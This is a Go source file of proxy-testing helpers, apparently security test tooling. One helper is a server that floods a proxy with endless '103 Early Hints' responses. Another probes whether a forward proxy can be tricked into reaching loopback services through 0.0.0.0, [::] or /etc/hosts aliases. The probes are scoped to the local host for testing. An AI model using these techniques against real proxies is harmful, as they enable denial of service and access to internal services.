package attack

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strings"
	"time"
)

// EndlessInterim is an endpoint that answers each request with interim responses of
// 4 KB for ever. It serves the listener until ctx ends, and closes it.
func EndlessInterim(ctx context.Context, l net.Listener) {
	defer context.AfterFunc(ctx, func() { l.Close() })()
	interim := "HTTP/1.1 103 Early Hints\r\nLink: </" + strings.Repeat("a", 4000) + ">; rel=preload\r\n\r\n"
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go func() {
			defer c.Close()
			defer context.AfterFunc(ctx, func() { c.Close() })()
			if _, err := http.ReadRequest(bufio.NewReader(c)); err != nil {
				return
			}
			for err == nil {
				_, err = io.WriteString(c, interim)
			}
		}()
	}
}

// TakeInterim asks the proxy at address, in front of [EndlessInterim], and reads until
// it ends the connection, or ctx ends. It returns how many bytes the proxy sent, and
// the status of the final response, 0 if there was none.
func TakeInterim(ctx context.Context, address string) (bytes int64, status int, err error) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return 0, 0, err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: attack\r\nConnection: close\r\n\r\n"); err != nil {
		return 0, 0, err
	}
	lines := bufio.NewReader(c)
	for {
		line, err := lines.ReadString('\n')
		bytes += int64(len(line))
		var n int
		if _, no := fmt.Sscanf(line, "HTTP/1.1 %d ", &n); no == nil && n >= 200 {
			status = n
		}
		if err != nil { // how it ended does not matter
			return bytes, status, nil
		}
	}
}

// NamesOfThisHost are names that lead to a loopback address, localhost aside: those of
// the hosts file.
func NamesOfThisHost() []string {
	text, err := os.ReadFile("/etc/hosts")
	if err != nil {
		return nil
	}
	var names []string
	for line := range strings.Lines(string(text)) {
		line, _, _ = strings.Cut(line, "#")
		fields := strings.Fields(line)
		if len(fields) < 2 || !strings.HasPrefix(fields[0], "127.") {
			continue
		}
		for _, name := range fields[1:] {
			if name != "localhost" && !strings.HasPrefix(name, "localhost.") {
				names = append(names, name)
			}
		}
	}
	slices.Sort(names)
	return slices.Compact(names)
}

// Smuggle asks the forward proxy at address for a server of this host at the port, by
// what leads there but does not say so: the unspecified addresses, and the names. It
// returns what reached the server, by CONNECT or in absolute form. What it asks for
// leads nowhere else, so that it does no harm where a proxy lets it pass.
func Smuggle(ctx context.Context, address string, port int, names ...string) (reached []string, err error) {
	for _, host := range append([]string{"0.0.0.0", "[::]"}, names...) {
		target := fmt.Sprintf("%s:%d", host, port)
		for _, line := range []string{"CONNECT " + target, "GET http://" + target + "/"} {
			status, err := statusOf(ctx, address, line+" HTTP/1.1\r\nHost: "+target+"\r\nConnection: close\r\n\r\n")
			if err != nil {
				return reached, err
			}
			if status/100 == 2 {
				reached = append(reached, line)
			}
		}
	}
	return reached, nil
}

// statusOf sends a request and returns the status of its response.
func statusOf(ctx context.Context, address, request string) (status int, err error) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, request); err != nil {
		return 0, err
	}
	response, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, err
	}
	response.Body.Close()
	return response.StatusCode, nil
}
